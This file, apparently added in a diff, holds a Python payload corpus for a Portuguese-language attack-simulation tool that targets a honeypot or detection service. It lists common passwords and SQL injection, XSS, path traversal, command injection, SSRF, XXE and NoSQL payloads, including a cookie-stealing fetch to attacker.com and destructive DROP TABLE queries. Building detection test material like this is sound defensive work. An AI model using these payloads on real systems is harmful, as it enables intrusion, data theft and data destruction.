@@ -0,0 +1,216 @@
+"""
+Corpora de payloads compartilhados pelos scripts e pelo runner de campanhas
+"""
+
+# Wordlists comuns
+COMMON_PASSWORDS = [
+    "123456",
+    "password",
+    "123456789",
+    "12345678",
+    "12345",
+    "1234567",
+    "admin",
+    "123123",
+    "qwerty",
+    "abc123",
+    "password123",
+    "admin123",
+    "letmein",
+    "welcome",
+    "monkey",
+    "1234567890",
+    "football",
+    "dragon",
+    "master",
+    "shadow",
+    "superman",
+    "michael",
+    "jennifer",
+    "trustno1",
+    "batman",
+    "starwars",
+    "1q2w3e4r",
+    "killer",
+    "sunshine",
+    "iloveyou",
+    "princess",
+    "solo",
+    "charlie",
+    "freedom",
+    "whatever",
+    "qazwsx",
+    "ninja",
+    "mustang",
+    "access",
+    "hello",
+    "696969",
+    "!@#$%^&*",
+    "jordan23",
+    "passw0rd",
+    "Password1",
+    "P@ssw0rd",
+    "qwerty123",
+    "zxcvbnm",
+    "asdfgh",
+    "123qwe",
+    "1qaz2wsx",
+]
+
+COMMON_EMAILS = [
+    "admin@example.com",
+    "admin@localhost",
+    "root@localhost",
+    "test@test.com",
+    "user@example.com",
+]
+
+# Payloads comuns de SQL Injection
+SQL_INJECTION_PAYLOADS = [
+    # Union-based
+    "' UNION SELECT NULL--",
+    "' UNION SELECT NULL, NULL--",
+    "' UNION SELECT username, password FROM users--",
+    
+    # Boolean-based
+    "' OR '1'='1",
+    "' OR 1=1--",
+    "admin' --",
+    "admin' #",
+    "' or 1=1 limit 1 --",
+    
+    # Time-based
+    "'; WAITFOR DELAY '00:00:05'--",
+    "'; SELECT SLEEP(5)--",
+    
+    # Stacked queries
+    "'; DROP TABLE users--",
+    "'; DELETE FROM users WHERE '1'='1",
+    
+    # Error-based
+    "' AND 1=CONVERT(int, @@version)--",
+    "' AND 1=CAST((SELECT @@version) AS int)--",
+    
+    # Authentication bypass
+    "admin' OR '1'='1' /*",
+    "' OR ''='",
+    "' OR 1 -- -",
+    "') OR ('1'='1",
+    
+    # Advanced
+    "1' UNION SELECT NULL, NULL, NULL, table_name FROM information_schema.tables--",
+    "1' AND (SELECT COUNT(*) FROM users) > 0--",
+]
+
+# Payloads comuns de XSS
+XSS_PAYLOADS = [
+    # Basic XSS
+    "<script>alert('XSS')</script>",
+    "<img src=x onerror=alert('XSS')>",
+    "<svg/onload=alert('XSS')>",
+    
+    # Event handlers
+    "<body onload=alert('XSS')>",
+    "<input onfocus=alert('XSS') autofocus>",
+    "<select onfocus=alert('XSS') autofocus>",
+    "<textarea onfocus=alert('XSS') autofocus>",
+    "<iframe onload=alert('XSS')>",
+    
+    # JavaScript protocols
+    "<a href='javascript:alert(\"XSS\")'>Click</a>",
+    "<img src='javascript:alert(\"XSS\")'>",
+    
+    # Advanced payloads
+    "<script>document.cookie</script>",
+    "<script>fetch('http://attacker.com?cookie='+document.cookie)</script>",
+    "'-alert(String.fromCharCode(88,83,83))-'",
+    "\"><script>alert(String.fromCharCode(88,83,83))</script>",
+    
+    # Encoded
+    "%3Cscript%3Ealert('XSS')%3C/script%3E",
+    "&#60;script&#62;alert('XSS')&#60;/script&#62;",
+    
+    # DOM-based
+    "<img src=x onerror=\"javascript:alert(1)\">",
+    "<svg><script>alert('XSS')</script></svg>",
+    
+    # Bypass attempts
+    "<scr<script>ipt>alert('XSS')</scr</script>ipt>",
+    "<img src=x oneonerrorrror=alert('XSS')>",
+]
+
+# Payloads de Path Traversal e padrões suspeitos
+SUSPICIOUS_PAYLOADS = [
+    # Path Traversal
+    "../../../etc/passwd",
+    "..\\..\\..\\windows\\system32\\config\\sam",
+    "....//....//....//etc/passwd",
+    "..%2F..%2F..%2Fetc%2Fpasswd",
+    
+    # Command Injection
+    "; ls -la",
+    "| cat /etc/passwd",
+    "& whoami",
+    "`id`",
+    "$(uname -a)",
+    
+    # File Inclusion
+    "php://filter/convert.base64-encode/resource=index.php",
+    "file:///etc/passwd",
+    "expect://id",
+    
+    # SSRF
+    "http://localhost:22",
+    "http://127.0.0.1:3306",
+    "http://169.254.169.254/latest/meta-data/",
+    
+    # Directory Listing
+    "/admin/",
+    "/.git/config",
+    "/.env",
+    "/backup.sql",
+    "/database.sql",
+    
+    # Source Code Disclosure
+    ".php.bak",
+    "index.php~",
+    ".DS_Store",
+    
+    # XXE
+    "<!DOCTYPE foo [<!ENTITY xxe SYSTEM 'file:///etc/passwd'>]>",
+    
+    # LDAP Injection
+    "*)(uid=*))(|(uid=*",
+    "admin*",
+    "*",
+    
+    # NoSQL Injection
+    "{'$gt': ''}",
+    "[$ne]=1",
+]
+
+# IPs fictícios para simular ataques de diferentes origens
+ATTACKER_IPS = [
+    "203.0.113.10",    # IP documentação RFC 5737
+    "198.51.100.50",   # IP documentação RFC 5737
+    "192.0.2.100",     # IP documentação RFC 5737
+    "45.33.32.156",    # IP suspeito fictício
+    "185.220.101.1",   # IP suspeito fictício
+    "104.28.0.1",      # IP suspeito fictício
+    "8.8.8.8",         # Google DNS (exemplo de IP legítimo)
+]
+
+# Endpoints honeypot expostos pelo backend
+HONEYPOT_ENDPOINTS = ["/admin", "/debug", "/.env", "/db"]
+
+# Buscas legítimas (tráfego limpo): nenhuma casa com os padrões do DetectionService
+BENIGN_SEARCHES = [
+    "maria",
+    "joao silva",
+    "notebook",
+    "pedido 1042",
+    "relatorio mensal",
+    "ana.souza@example.com",
+    "cafe com leite",
+    "2024-03-15",
+]